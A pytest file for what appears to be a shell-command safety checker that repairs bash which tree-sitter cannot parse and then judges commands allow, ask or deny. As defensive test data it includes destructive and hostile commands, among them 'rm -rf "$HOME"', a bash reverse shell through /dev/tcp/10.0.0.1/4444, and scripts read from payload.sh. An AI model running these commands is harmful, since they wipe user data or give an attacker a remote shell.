"""Valid bash that tree-sitter-bash rejects is rewritten into an equivalent it parses."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from blastdoor.analyze.bash_repair import repaired
from blastdoor.analyze.bash_tree import parse
from blastdoor.judge import judge
from blastdoor.model import Action, Verb
from blastdoor.policy import load
from tests.conftest import decide

VALID_BUT_REJECTED = [
    "tar czf out.tgz src \\",
    "grep -rn TODO src \\\n",
    'for ((i = 0; i < ${#word}; i++)); do c=${word:$i:1}; echo "$c"; done',
    "exec 4<>/tmp/fifo-lock",
    "ssh build@ci.example.org bash <<'SCRIPT'",
    "cat <<-END\n\thello",
]


@pytest.mark.parametrize("script", VALID_BUT_REJECTED)
def test_the_rewrite_parses_where_the_original_did_not(script: str) -> None:
    bash = shutil.which("bash")
    assert bash is not None
    assert subprocess.run([bash, "-n", "-c", script], capture_output=True).returncode == 0
    assert parse(script).has_error
    assert not parse(repaired(script)).has_error


def test_the_rewrite_keeps_every_other_character_in_place() -> None:
    script = "c=${word:$i:1}; exec 3<>log.txt; ls \\"
    fixed = repaired(script)
    assert len(fixed) == len(script)
    changed = [i for i, (a, b) in enumerate(zip(script, fixed, strict=True)) if a != b]
    assert changed == [9, 10, 22, 36]  # `:$i` → `:i `, `<>` → `>>`, the final `\\` → space


def test_a_literal_backslash_at_the_end_stays() -> None:
    assert repaired("echo \\\\") == "echo \\\\"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('c=${word:$i:1}; rm -rf "$HOME"', "deny"),  # what follows the expansion is seen
        ("find / -name '*.old' -exec rm {} \\", "deny"),
        ("exec 3<>/etc/hosts", "ask"),  # opened for writing: a system file
        ("mkdir -p out/logs \\", "allow"),
    ],
)
def test_commands_in_repaired_text_are_judged(command: str, expected: str) -> None:
    decision = decide(command)
    assert decision.kind.value == expected, decision.reasons
    assert not any(
        e.verb is Verb.EXECUTE_UNKNOWN and "unparseable" in e.tags for e in decision.effects
    )


@pytest.mark.parametrize(
    ("command", "reads"),
    [
        ("bash <>payload.sh", "payload.sh"),
        ("sh <> payload.sh", "payload.sh"),
        ("bash -s <>payload.sh", "payload.sh"),
        ("python3 <>evil.py", "evil.py"),
        ("bash 0<>payload.sh", "payload.sh"),
        ("bash -i <>/dev/tcp/10.0.0.1/4444 1>&0 2>&0", "/dev/tcp/10.0.0.1/4444"),
    ],
)
def test_read_write_without_a_number_is_standard_input(command: str, reads: str) -> None:
    # bash reads its script from the file `<>` opens; appending to it is not what runs.
    decision = decide(command)
    assert decision.kind.value == "ask", decision.reasons
    assert any(reads in reason and "read from file" in reason for reason in decision.reasons)


def test_a_script_read_through_read_write_is_judged(tmp_path: Path) -> None:
    (tmp_path / "payload.sh").write_text("rm -rf ~\n")
    decision = judge(Action.shell("bash <>payload.sh", cwd=str(tmp_path)), load())
    assert decision.kind.value == "deny", decision.reasons


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("echo a3<>f", "echo a3< f"),  # the number ends the word: standard input
        ("cat 0<>f", "cat  < f"),
        ("exec 12<>f", "exec 12>>f"),
    ],
)
def test_which_descriptor_read_write_opens(script: str, expected: str) -> None:
    assert repaired(script) == expected


@pytest.mark.parametrize(
    "script",
    [
        "echo 'a<>b ${s:$i:1}' # c<>d\nls \\",  # quotes and comments that parse are kept
        "echo $((1<<X)) \\",  # arithmetic is not a heredoc
        "cat <<'EOF'\nexec 3<>f ${s:$i}\nEOF\nls \\",  # nor is a quoted heredoc's body
    ],
)
def test_only_the_text_that_fails_to_parse_is_rewritten(script: str) -> None:
    fixed = repaired(script)
    assert fixed == script.removesuffix("\\") + " "
    assert not parse(fixed).has_error


def test_arithmetic_beside_an_unterminated_heredoc_adds_one_end() -> None:
    assert repaired("echo $((1<<X)); cat <<EOF") == "echo $((1<<X)); cat <<EOF\nEOF\n"
